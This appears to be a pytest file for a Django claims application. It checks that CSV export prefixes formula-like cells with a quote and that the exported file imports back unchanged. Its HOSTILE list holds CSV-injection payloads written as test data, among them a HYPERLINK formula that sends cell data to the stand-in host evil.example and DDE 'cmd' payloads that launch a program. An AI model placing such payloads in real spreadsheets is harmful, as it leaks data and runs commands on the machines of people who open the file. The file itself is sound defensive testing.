"""The CSV export never hands a spreadsheet a formula (OWASP "CSV Injection"), and imports again unchanged."""

import csv
import io

import pytest
from django.core.management import call_command

from claims.imports.spreadsheet_cells import cell_neutralise, cell_restore
from claims.models import Appearance, Claim, Claimant
from tests.factories import ClaimantFactory, make_claim

# What a tip-line message may start with, as a spreadsheet would read it.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-twice quoted",
]
HARMLESS = ["Steel imports doubled.", "'Quoted' words", "a = b", "5 - 3", "e-mail@example.org"]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.mark.parametrize("value", HOSTILE + HARMLESS)
def test_a_neutralised_cell_reads_back_as_it_was(value):
    written = cell_neutralise(value)
    assert cell_restore(written) == value
    assert (written[0] == "'" and written[1:] == value) if value in HOSTILE else written == value


def saved_claims() -> list[tuple]:
    # The import trims the spaces around a text (a leading tab or return too), as it always has.
    rows = Claim.objects.values_list("text", "summary", "claimant__name", "claimant__title", "topics")
    return sorted((text.strip(), *rest) for text, *rest in rows)


def test_no_exported_csv_cell_starts_a_formula_and_the_export_imports_again(db, editor, tmp_path):
    claims = []
    for n, text in enumerate(HOSTILE):
        claimant = ClaimantFactory(name=f"=cmd|' /C calc'!A{n}", title="-Minister")
        claim = make_claim(author=editor, text=text, claimant=claimant, summary=f"+{n}", topics=["@trade"])
        Appearance.objects.create(claim=claim, url="", outlet='=IMPORTXML(CONCAT(A1),"//a")', is_first=True)
        claims.append(claim)
    out = tmp_path / "claims.csv"

    call_command("export_claims", "--format", "csv", "--output", str(out), stderr=io.StringIO())

    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(HOSTILE) + 1 and cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_text = {row[1]: row for row in rows[1:]}
    assert by_text["'" + HOSTILE[0]][3] == "'=cmd|' /C calc'!A0"  # the claimant
    assert by_text["'-2+3"][4] == "'-Minister" and by_text["'-2+3"][2] == "'+2"
    before = saved_claims()

    Appearance.objects.all().delete()
    Claim.objects.all().delete()
    Claimant.objects.all().delete()
    out_log, err = io.StringIO(), io.StringIO()
    call_command("import_claims", str(out), "--user", editor.username, stdout=out_log, stderr=err)

    assert f"{len(HOSTILE)} claims created" in out_log.getvalue(), err.getvalue()
    assert saved_claims() == before
    assert set(Appearance.objects.values_list("outlet", flat=True)) == {'=IMPORTXML(CONCAT(A1),"//a")'}
